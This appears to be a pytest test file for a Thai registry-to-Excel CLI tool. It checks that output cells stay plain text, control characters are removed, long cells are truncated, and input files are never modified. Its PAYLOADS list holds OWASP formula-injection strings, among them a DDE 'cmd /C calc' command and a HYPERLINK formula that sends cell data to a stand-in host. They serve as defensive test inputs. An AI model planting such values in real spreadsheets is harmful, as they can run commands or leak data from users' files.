"""Output that cannot hurt: no formulas from registry text, text kept as text, inputs untouched."""

import datetime as dt
import hashlib

import pytest
from openpyxl import load_workbook

from kbo_cli import select
from kbo_cli.errors import OutputError
from kbo_cli.output.workbooks import write_workbooks
from tests.conftest import HEADER, row, table_records, write_csv, write_xlsx

# OWASP CSV-injection payloads: each must reach every workbook as the same plain text.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")',
    "@SUM(1,1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
]


def every_cell(folder):
    for path in folder.rglob("*.xlsx"):
        for ws in load_workbook(path).worksheets:
            for r in ws.iter_rows():
                yield from r


def test_injection_payloads_stay_text(tmp_path):
    rows = [[*row(producer=p, product=p), p] for p in PAYLOADS]
    path = write_xlsx(tmp_path / "r.xlsx", {"S": [[*HEADER, "หมายเหตุ"], *rows]})
    files = write_workbooks(select([path]), tmp_path / "out")
    assert all(c.data_type != "f" for c in every_cell(files.folder))
    nominees = table_records(files.districts[0])
    assert sorted(r["ชื่อกลุ่ม/ผู้ประกอบการ"] for r in nominees) == sorted(PAYLOADS)
    assert sorted(r["หมายเหตุ"] for r in nominees) == sorted(PAYLOADS)  # the carried column too
    summary = table_records(files.summary, 2)
    assert sorted(r["ชื่อกลุ่ม/ผู้ประกอบการ"] for r in summary) == sorted(PAYLOADS)


def test_injection_payloads_from_csv(tmp_path):
    path = write_csv(tmp_path / "r.csv", [HEADER, *(row(producer=p) for p in PAYLOADS)])
    files = write_workbooks(select([path]), tmp_path / "out")
    nominees = table_records(files.districts[0])
    assert sorted(r["ชื่อกลุ่ม/ผู้ประกอบการ"] for r in nominees) == sorted(PAYLOADS)


def test_control_characters_removed_and_reported(tmp_path):
    path = write_csv(
        tmp_path / "r.csv",
        [[*HEADER, "หมายเหตุ"], [*row(producer="กลุ่ม\x0bแม่บ้าน"), "โทร\x1f081\x00"]],
    )
    selection = select([path])
    problems = {(i.row, i.column, i.problem) for i in selection.issues}
    assert problems == {(2, "C", "illegal_characters"), (2, "J", "illegal_characters")}
    files = write_workbooks(selection, tmp_path / "out")
    (nominee,) = table_records(files.districts[0])
    assert nominee["ชื่อกลุ่ม/ผู้ประกอบการ"] == "กลุ่มแม่บ้าน" and nominee["หมายเหตุ"] == "โทร081"


def test_over_long_cell_cut_and_reported(tmp_path):
    long = "ก" * 40000
    path = write_csv(tmp_path / "r.csv", [[*HEADER, "หมายเหตุ"], [*row(), long]])
    selection = select([path])
    assert [(i.column, i.problem) for i in selection.issues] == [("J", "too_long")]
    files = write_workbooks(selection, tmp_path / "out")
    (nominee,) = table_records(files.districts[0])
    assert nominee["หมายเหตุ"] == long[:32767]


def test_text_numbers_and_dates_written_back_as_they_were(tmp_path):
    header = [*HEADER, "โทรศัพท์", "รหัสไปรษณีย์", "ทุน (บาท)", "วันที่ตรวจ"]
    extra = ["0812345678", "024000", 15000, dt.datetime(2019, 12, 21)]
    path = write_xlsx(tmp_path / "r.xlsx", {"S": [header, [*row(), *extra]]})
    files = write_workbooks(select([path]), tmp_path / "out")
    for path_out, index in ((files.districts[0], 0), (files.summary, 2)):
        (record,) = table_records(path_out, index)
        # The phone under the province's header for it, the others under the registry's.
        assert (
            record["เบอร์โทรศัพท์"],
            record["รหัสไปรษณีย์"],
            record["ทุน (บาท)"],
            record["วันที่ตรวจ"],
        ) == ("0812345678", "024000", 15000, dt.datetime(2019, 12, 21))


def test_leading_zeros_from_csv(tmp_path):
    path = write_csv(tmp_path / "r.csv", [[*HEADER, "รหัส"], [*row(), "00123"]])
    files = write_workbooks(select([path]), tmp_path / "out")
    assert table_records(files.districts[0])[0]["รหัส"] == "00123"


def test_input_is_never_modified(registry, tmp_path):
    path = registry([row()])
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    write_workbooks(select([path]), tmp_path / "out")
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before


def test_input_is_never_an_output_path(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    path = write_xlsx(out / "บางคล้า.xlsx", {"S": [HEADER, row()]})
    before = path.read_bytes()
    for force in (False, True):  # never offered --force, which would not do it either
        with pytest.raises(OutputError, match=r"holds the input บางคล้า\.xlsx") as raised:
            write_workbooks(select([path]), out, force=force)
        assert "--force" not in str(raised.value) and "--force" not in raised.value.thai
    assert path.read_bytes() == before
